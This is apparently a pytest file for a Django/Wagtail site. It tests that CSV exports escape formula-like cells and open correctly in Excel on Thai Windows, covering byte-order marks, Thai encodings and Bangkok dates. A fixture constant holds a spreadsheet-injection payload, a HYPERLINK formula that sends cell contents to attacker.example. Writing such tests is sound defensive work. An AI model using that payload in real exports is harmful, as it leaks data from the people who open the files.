"""CSV exports never run a typed value as a formula and open in Excel on Thai
Windows: ours, and Wagtail's own."""

import codecs
import csv
import datetime
import io

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import translation

import pytest

from kcs_core.spreadsheets import (
    as_excel_csv,
    csv_response,
    safe_csv_rows,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"คลิก")'


def test_the_rule_is_idempotent_and_keeps_quoting():
    text = f'ชื่อ,ค่า\r\n"{FORMULA.replace(chr(34), chr(34) * 2)}",-5\r\n'
    once = "".join(safe_csv_rows([text]))
    assert list(csv.reader(io.StringIO(once))) == [["ชื่อ", "ค่า"], ["'" + FORMULA, "'-5"]]
    assert "".join(safe_csv_rows([once])) == once


def test_wagtails_site_history_export_keeps_a_formula_title_as_text(
    admin_client, home_page
):
    page = home_page.add_child(instance=type(home_page)(title=FORMULA, slug="x"))
    page.save_revision(user=None, log_action=True).publish()
    response = admin_client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_a_stream_cut_anywhere_is_rewritten_without_damage():
    """Another app's streamed CSV may cut a chunk inside a Thai character, a row or
    a quoted field that spans lines."""
    text = 'ชื่อ,หมายเหตุ\r\n"=1+1","บรรทัดหนึ่ง\nบรรทัดสอง"\r\nน้ำ,@SUM(A1)\r\n'
    data = text.encode("utf-8")
    chunks = [data[index : index + 5] for index in range(0, len(data), 5)]
    rows = list(csv.reader(io.StringIO("".join(safe_csv_rows(chunks)))))
    assert rows == [
        ["ชื่อ", "หมายเหตุ"],
        ["'=1+1", "บรรทัดหนึ่ง\nบรรทัดสอง"],
        ["น้ำ", "'@SUM(A1)"],
    ]


# --- Excel on Thai Windows: UTF-8 with one byte-order mark, local times ----------


def test_wagtails_own_csv_opens_in_excel_as_utf8(admin_client, home_page):
    """Wagtail sends ``text/csv`` without a charset or a byte-order mark; Excel
    would read its Thai in the Windows code page."""
    page = home_page.add_child(instance=type(home_page)(title="ข่าวน้ำประปา", slug="x"))
    page.save_revision(user=None, log_action=True).publish()
    response = admin_client.get("/admin/reports/site-history/?export=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8) and body.count(codecs.BOM_UTF8) == 1
    assert "ข่าวน้ำประปา" in body.decode("utf-8-sig")


def test_a_csv_that_has_its_mark_keeps_exactly_one_and_its_first_cell_is_safe():
    text = "\ufeff=1+1,ชื่อ\r\n@SUM(A1),น้ำ\r\n"
    response = as_excel_csv(HttpResponse(text.encode(), content_type="text/csv"))
    assert response.content.startswith(codecs.BOM_UTF8)
    assert response.content.count(codecs.BOM_UTF8) == 1
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["'=1+1", "ชื่อ"], ["'@SUM(A1)", "น้ำ"]]
    again = as_excel_csv(HttpResponse(response.content, content_type="text/csv"))
    assert again.content == response.content


def test_a_stream_cut_inside_its_mark_gets_one_mark():
    data = "\ufeffชื่อ,ค่า\r\n=2,3\r\n".encode()
    response = StreamingHttpResponse(
        (data[index : index + 2] for index in range(0, len(data), 2)),
        content_type="text/csv",
    )
    body = b"".join(as_excel_csv(response).streaming_content)
    assert body.count(codecs.BOM_UTF8) == 1 and body.startswith(codecs.BOM_UTF8)
    assert body.decode("utf-8-sig") == "ชื่อ,ค่า\r\n'=2,3\r\n"


def test_a_csv_in_another_declared_charset_gets_no_mark():
    text = "ชื่อ\r\n=1\r\n"
    response = as_excel_csv(
        HttpResponse(text.encode("cp874"), content_type="text/csv; charset=cp874")
    )
    assert response["Content-Type"] == "text/csv; charset=cp874"
    assert response.content == "ชื่อ\r\n'=1\r\n".encode("cp874")


def test_our_csv_says_times_in_the_sites_zone_as_a_thai_reader_reads_them(site):
    filed = datetime.datetime(2026, 12, 1, 18, 30, tzinfo=datetime.UTC)
    with translation.override("th"):
        response = csv_response(
            [
                ("เลขที่", "เว็บไซต์", "ยื่นเมื่อ", "ครบกำหนด"),
                ("=cmd", site, filed, datetime.date(2026, 12, 9)),
            ],
            "requests.csv",
        )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="requests.csv"'
    assert response.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    # 18:30 UTC on 1 Dec is 01:30 on 2 Dec in Bangkok, in the Buddhist era 2569.
    assert rows[1] == ["'=cmd", "localhost", "2 ธ.ค. 2569 01:30 น.", "9 ธ.ค. 2569"]
    with translation.override("en"):
        english = csv_response([(filed,)], "x.csv").content.decode("utf-8-sig")
    assert english.strip() == "2 Dec 2026 01:30"
